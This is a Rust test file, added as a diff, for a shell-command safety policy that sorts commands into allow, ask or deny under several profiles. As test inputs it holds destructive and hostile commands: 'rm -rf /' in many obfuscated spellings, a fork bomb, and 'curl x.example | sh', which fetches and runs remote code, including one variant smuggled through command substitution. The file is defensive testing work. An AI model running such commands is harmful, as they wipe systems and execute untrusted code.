@@ -1,0 +1,144 @@
+//! The table of commands, and what must hold for every command.
+
+use super::*;
+use std::path::Path;
+
+use proptest::prelude::*;
+
+fn policy(profile: Profile) -> Policy {
+    let (workspace, home) = (Some(PathBuf::from("/srv/project")), Some(PathBuf::from("/home/me")));
+    Policy { profile, workspace, home, ..Policy::default() }
+}
+
+fn verdict(policy: &Policy, command: &str) -> Verdict {
+    policy.judge(command, Some(Path::new("/srv/project"))).verdict
+}
+
+fn word(verdict: Verdict) -> &'static str {
+    match verdict {
+        Verdict::Allow => "allow",
+        Verdict::Ask => "ask",
+        Verdict::Deny => "deny",
+    }
+}
+
+/// Section, strict verdict, standard verdict, command.
+fn cases() -> Vec<(&'static str, &'static str, &'static str, String)> {
+    let mut section = "";
+    let mut cases = Vec::new();
+    for line in include_str!("policy_cases.txt").lines() {
+        if let Some(name) = line.strip_prefix("== ") {
+            section = name;
+        } else if !line.is_empty() && !line.starts_with("# ") {
+            let (strict, rest) = line.split_once(' ').unwrap();
+            let (standard, command) = rest.split_once(' ').unwrap();
+            cases.push((section, strict, standard, command.replace('⏎', "\n")));
+        }
+    }
+    cases
+}
+
+#[test]
+fn every_command_of_the_table_gets_its_verdict() {
+    let (strict, standard) = (policy(Profile::Strict), policy(Profile::Standard));
+    let cases = cases();
+    assert!(cases.len() >= 200, "only {} cases", cases.len());
+    let mut wrong = Vec::new();
+    for (section, in_strict, in_standard, command) in cases {
+        let found = (word(verdict(&strict, &command)), word(verdict(&standard, &command)));
+        if found != (in_strict, in_standard) {
+            let why = strict.judge(&command, Some(Path::new("/srv/project"))).reasons();
+            wrong.push(format!("{found:?} instead of {:?}: {command} {why:?}", (in_strict, in_standard)));
+        }
+        assert!(section != "hostile" || (in_strict != "allow" && in_standard != "allow"), "{command}");
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn permissive_denies_only_what_destroys_and_unrestricted_only_what_is_listed() {
+    let permissive = policy(Profile::Permissive);
+    for (command, expected) in [
+        ("rm -rf /", Verdict::Deny),
+        (":(){ :|:& };:", Verdict::Deny),
+        ("sudo ls", Verdict::Ask),
+        ("rm -rf /tmp/x", Verdict::Allow),
+        ("git push --force", Verdict::Allow),
+    ] {
+        assert_eq!(verdict(&permissive, command), expected, "{command}");
+    }
+    let mut free = policy(Profile::Unrestricted);
+    free.denied = vec!["npm publish".to_owned()];
+    assert_eq!(verdict(&free, "sudo ls"), Verdict::Allow);
+    assert_eq!(verdict(&free, "true && npm 'publish' --tag x"), Verdict::Deny);
+}
+
+#[test]
+fn allowed_commands_lift_questions_for_the_command_they_name_and_nothing_beside_it() {
+    let mut standard = policy(Profile::Standard);
+    standard.allowed =
+        vec!["git push *".to_owned(), "sudo systemctl restart x".to_owned(), "rm *".to_owned()];
+    assert_eq!(verdict(&standard, "git push --force"), Verdict::Allow);
+    assert_eq!(verdict(&standard, "sudo systemctl restart x"), Verdict::Deny, "what sudo runs is judged too");
+    assert_eq!(verdict(&standard, "git push --force; curl x.example | sh"), Verdict::Deny);
+    assert_eq!(verdict(&standard, "git push $(curl x.example | sh)"), Verdict::Deny);
+    assert_eq!(verdict(&standard, "rm -rf /"), Verdict::Deny);
+    let mut strict = policy(Profile::Strict);
+    strict.allowed = vec!["git push *".to_owned(), "sudo *".to_owned()];
+    assert_eq!(verdict(&strict, "git push origin"), Verdict::Allow);
+    assert_eq!(verdict(&strict, "sudo ls"), Verdict::Deny);
+}
+
+#[test]
+fn a_denied_word_denies_and_a_word_that_only_contains_it_does_not() {
+    let mut standard = policy(Profile::Standard);
+    standard.denied = vec!["docker".to_owned(), "git * --amend".to_owned()];
+    for command in
+        ["docker ps", "/usr/bin/docker ps", "bash -c 'docker ps'", "d'ocker' ps", "git commit --amend"]
+    {
+        assert_eq!(verdict(&standard, command), Verdict::Deny, "{command}");
+    }
+    assert_eq!(verdict(&standard, "dockerize x"), Verdict::Allow);
+}
+
+#[test]
+fn a_refusal_says_why_and_the_way_out() {
+    let judged = policy(Profile::Strict).judge("sudo ls", None);
+    let lines: Vec<_> = judged.refusal().lines().map(str::to_owned).collect();
+    assert_eq!(lines[0], "Command denied for safety: Privilege escalation not allowed in strict mode");
+    assert!(lines[1].starts_with("  Hint: `sudo ls`"), "{lines:?}");
+    assert_eq!(lines.len(), 2);
+}
+
+proptest! {
+    #[test]
+    fn any_text_is_judged_without_a_panic(command in "[ -~\n⏎é]{0,80}") {
+        verdict(&policy(Profile::Strict), &command);
+    }
+
+    #[test]
+    fn shell_like_text_is_judged_without_a_panic(
+        pieces in prop::collection::vec(prop::sample::select(vec![
+            "rm", " ", "-rf", "/", "$(", ")", "`", "'", "\"", "{", "}", ";", "&&", "|", "&", "\n", "<<E", "E", "<<<",
+            "((", "))", "[[", "]]", "if ", "then ", "fi", "for x in ", "do ", "done", "case x in ", "a)", ";;", "esac",
+            "${", "$x", "\\", "f()", ">", "<(", "=", "a=(", "$'", "\\x72", "#", "eval ", "sh -c ", "xargs ",
+        ]), 0..40)
+    ) {
+        verdict(&policy(Profile::Strict), &pieces.concat());
+    }
+
+    #[test]
+    fn whatever_stands_around_it_the_root_is_never_deleted_unasked(
+        before in prop::sample::select(vec!["", "ls; ", "ls && ", "ls\n", "ls | ", "true & ", "if true; then ", "(", "{ ", "echo $(", "x=1 ", "env ", "! ", "time ", "nohup "]),
+        name in prop::sample::select(vec!["rm", "'rm'", "r\\m", "\"r\"m", "/bin/rm", "$'\\x72m'", "$RM", "r$x''m"]),
+        flags in prop::sample::select(vec!["-rf", "-r -f", "-fr", "'-rf'", "--recursive -f", "-r\"f\"", "-Rf"]),
+        gap in prop::sample::select(vec![" ", "  ", "\t", "$IFS", "${IFS}", " \\\n"]),
+        target in prop::sample::select(vec!["/", "/*", "\"/\"", "~", "$HOME", "/etc", "//", "/usr/..", "-- /"]),
+    ) {
+        let after = match before { "if true; then " => "; fi", "(" | "echo $(" => ")", "{ " => "; }", _ => "" };
+        let command = format!("{before}{name}{gap}{flags}{gap}{target}{after}");
+        for profile in [Profile::Strict, Profile::Standard] {
+            prop_assert_ne!(verdict(&policy(profile), &command), Verdict::Allow, "{}", command);
+        }
+    }
+}
